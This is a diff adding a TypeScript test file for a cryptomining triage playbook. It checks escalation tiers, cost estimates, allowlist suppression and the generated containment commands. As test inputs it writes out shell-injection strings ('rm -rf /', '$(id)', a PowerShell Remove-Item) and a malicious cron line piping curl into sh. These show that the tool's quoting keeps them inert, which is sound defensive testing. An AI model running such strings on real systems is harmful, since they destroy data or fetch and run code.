@@ -1,0 +1,196 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { parse } from 'yaml';
+import type { Evidence, Finding } from '../model/finding.js';
+import { defaultPolicy } from '../model/policy.js';
+import { parsePolicy } from '../run/policy.js';
+import { psQuote, shellQuote } from './containment.js';
+import { triageFinding } from './playbook.js';
+
+function ev(kind: Evidence['kind'], cls: Evidence['class'], extra: Partial<Evidence> = {}): Evidence {
+  return {
+    kind,
+    class: cls,
+    strength: 'strong',
+    time: '2026-11-30T10:00:00.000Z',
+    source: 'audit.log:7',
+    explanation: `${kind} evidence`,
+    by: `test:${kind}`,
+    entity: 'process:web-01:4130',
+    ...extra,
+  };
+}
+
+function finding(extra: Partial<Finding> = {}): Finding {
+  return {
+    id: 'cm-1',
+    analytic: 'AN0742',
+    title: 't',
+    attack: ['T1496.001'],
+    severity: 'medium',
+    confidence: 0.7,
+    entity: 'process:web-01:4130',
+    related: [],
+    host: 'web-01',
+    first_seen: '2026-11-30T10:00:00.000Z',
+    last_seen: '2026-11-30T11:00:00.000Z',
+    legs: ['resource', 'process'],
+    summary: '',
+    evidence: [ev('sustained-cpu', 'resource'), ev('miner-process', 'process')],
+    gaps: [],
+    suppressed_by: null,
+    facts: { host: 'web-01', pid: 4130, executable: '/opt/app/worker' },
+    processes: [
+      { entity: 'process:web-01:4130', pid: 4130, executable: '/opt/app/worker', name: 'worker', user: 'app' },
+    ],
+    usage: { core_hours: 12.5, basis: 'per-process CPU of 1 process', series: [] },
+    ...extra,
+  };
+}
+
+test('quoting keeps a hostile value one inert argument in a POSIX shell and in PowerShell', () => {
+  assert.equal(shellQuote(`a'; rm -rf / #`), `'a'\\''; rm -rf / #'`);
+  assert.equal(shellQuote('$(id) `id`'), `'$(id) \`id\`'`);
+  assert.equal(psQuote(`C:\\x'; Remove-Item C:\\ #`), `'C:\\x''; Remove-Item C:\\ #'`);
+});
+
+test('unauthorized high CPU is Tier 2 with that reason; cost uses the policy price', () => {
+  const policy = defaultPolicy();
+  policy.prices = { currency: 'EUR', coreHour: 0.2 };
+  const t = triageFinding(finding(), policy);
+  assert.equal(t.escalation.tier, 'Tier 2');
+  assert.deepEqual(
+    t.escalation.reasons.map((r) => r.split(':')[0]),
+    ['unauthorized high CPU with no valid explanation'],
+  );
+  assert.deepEqual(t.cost, {
+    core_hours: 12.5,
+    price_per_core_hour: 0.2,
+    currency: 'EUR',
+    amount: 2.5,
+    basis: 'per-process CPU of 1 process',
+  });
+  assert.deepEqual(
+    t.questions.map((q) => q.id),
+    ['legitimate-process', 'destination-reputation', 'recent-changes', 'vulnerable-exposure'],
+  );
+  assert.deepEqual(
+    t.containment.steps.map((s) => s.phase),
+    ['isolate', 'remove', 'preserve', 'patch', 'watch'],
+  );
+});
+
+test("no escalation condition met: L1 with the playbook's L1 checks; no CPU measured: no cost", () => {
+  const t = triageFinding(
+    finding({ legs: ['reach'], evidence: [ev('persistence', 'persistence', { strength: 'medium' })], usage: null }),
+    defaultPolicy(),
+  );
+  assert.equal(t.escalation.tier, 'L1');
+  assert.match(t.escalation.next_steps[0], /Confirm the abnormal usage of web-01/);
+  assert.equal(t.cost, null);
+});
+
+test('a suppressed finding stays L1 and says what would have escalated it; the allowlist answers question 1', () => {
+  const t = triageFinding(
+    finding({
+      suppressed_by: {
+        list: 'coalmine.yaml:9',
+        match: 'executable=/opt/app/worker',
+        owner: 'ml-team',
+        reason: 'RES-7',
+        expires: '2027-01-01',
+      },
+    }),
+    defaultPolicy(),
+  );
+  assert.equal(t.escalation.tier, 'L1');
+  assert.match(t.escalation.reasons[0], /suppressed by allowlist coalmine\.yaml:9 \(owner ml-team: RES-7/);
+  assert.match(t.escalation.reasons[1], /^would otherwise escalate: unauthorized high CPU/);
+  assert.equal(t.questions[0].status, 'answered');
+  assert.match(t.questions[0].answer, /^Yes, per allowlist coalmine\.yaml:9/);
+});
+
+test('informational findings never escalate', () => {
+  const t = triageFinding(
+    finding({
+      severity: 'informational',
+      analytic: 'crypto-node',
+      legs: [],
+      evidence: [ev('crypto-p2p', 'network', { strength: 'weak' })],
+    }),
+    defaultPolicy(),
+  );
+  assert.equal(t.escalation.tier, 'L1');
+  assert.match(t.escalation.reasons[0], /^informational/);
+});
+
+test('a hostile cron line is quoted in the plan; one with control characters gets no command', () => {
+  const cron = (entry: string): Evidence =>
+    ev('persistence', 'persistence', {
+      persistence: { mechanism: 'cron', file: '/var/spool/cron/crontabs/www-data', line: 3, entry, user: 'www-data' },
+    });
+  const hostile = `* * * * * curl x|sh; echo '$(reboot)'`;
+  const plan = triageFinding(finding({ evidence: [cron(hostile)] }), defaultPolicy()).containment.steps;
+  const remove = plan.find((s) => s.phase === 'remove')?.commands ?? [];
+  assert.ok(
+    remove.includes(`crontab -u 'www-data' -l | grep -vF -- ${shellQuote(hostile)} | crontab -u 'www-data' -`),
+    remove.join('\n'),
+  );
+  const control = triageFinding(finding({ evidence: [cron('a\u001b[2Jb')] }), defaultPolicy()).containment.steps;
+  const removeControl = control.find((s) => s.phase === 'remove')?.commands ?? [];
+  assert.ok(
+    removeControl.some((c) => /control characters: do this step by hand/.test(c)),
+    removeControl.join('\n'),
+  );
+  assert.ok(!removeControl.some((c) => c.includes('\u001b')));
+});
+
+test('the plan stops only the pid that still runs the same file, and never deletes a system program', () => {
+  const t = triageFinding(
+    finding({ processes: [{ entity: 'process:web-01:9', pid: 9, executable: '/usr/bin/python3', name: 'python3' }] }),
+    defaultPolicy(),
+  );
+  const remove = t.containment.steps.find((s) => s.phase === 'remove')?.commands ?? [];
+  assert.deepEqual(remove, [`[ "$(readlink /proc/9/exe)" = '/usr/bin/python3' ] && kill -9 9`]);
+});
+
+test('Windows findings get a PowerShell plan; address-only findings a perimeter plan', () => {
+  const win = triageFinding(
+    finding({
+      analytic: 'AN0741',
+      facts: { host: 'ws-07', destinations: ['198.51.100.23:3333'] },
+      processes: [{ entity: 'process:ws-07:g', pid: 7100, executable: 'C:\\Users\\Public\\svc.exe' }],
+      evidence: [
+        ev('persistence', 'persistence', {
+          persistence: {
+            mechanism: 'scheduled-task',
+            file: '\\Microsoft\\Windows\\Update\\svc',
+            entry: 'C:\\Users\\Public\\svc.exe',
+          },
+        }),
+      ],
+    }),
+    defaultPolicy(),
+  );
+  assert.equal(win.containment.platform, 'windows');
+  const all = win.containment.steps.flatMap((s) => s.commands).join('\n');
+  assert.match(all, /New-NetFirewallRule .* -RemoteAddress 198\.51\.100\.23/);
+  assert.match(all, /Stop-Process -Id 7100 -Force/);
+  assert.match(all, /Remove-Item -LiteralPath 'C:\\Users\\Public\\svc\.exe' -Force/);
+  assert.match(all, /Unregister-ScheduledTask -TaskName 'svc'/);
+  const net = triageFinding(
+    finding({ entity: 'ip:10.0.0.5', host: '10.0.0.5', processes: [], facts: { destinations: ['198.51.100.7:80'] } }),
+    defaultPolicy(),
+  );
+  assert.equal(net.containment.platform, 'network');
+  assert.match(net.containment.steps[0].action, /find the machine holding 10\.0\.0\.5/);
+});
+
+test('the allowlist suggestion is valid coalmine.yaml once its placeholders are filled in', () => {
+  const t = triageFinding(finding({ facts: { host: 'web-01', sha256: 'ab'.repeat(32) } }), defaultPolicy());
+  const doc = parse(t.allowlist_suggestion) as { allowlist: Array<Record<string, unknown>> };
+  assert.deepEqual(doc.allowlist[0].match, { hash: 'ab'.repeat(32), executable: '/opt/app/worker', host: 'web-01' });
+  const { errors } = parsePolicy('suggested.yaml', t.allowlist_suggestion);
+  assert.deepEqual(errors, []);
+  assert.match(t.allowlist_suggestion, /expires: 2027-02-28/);
+});
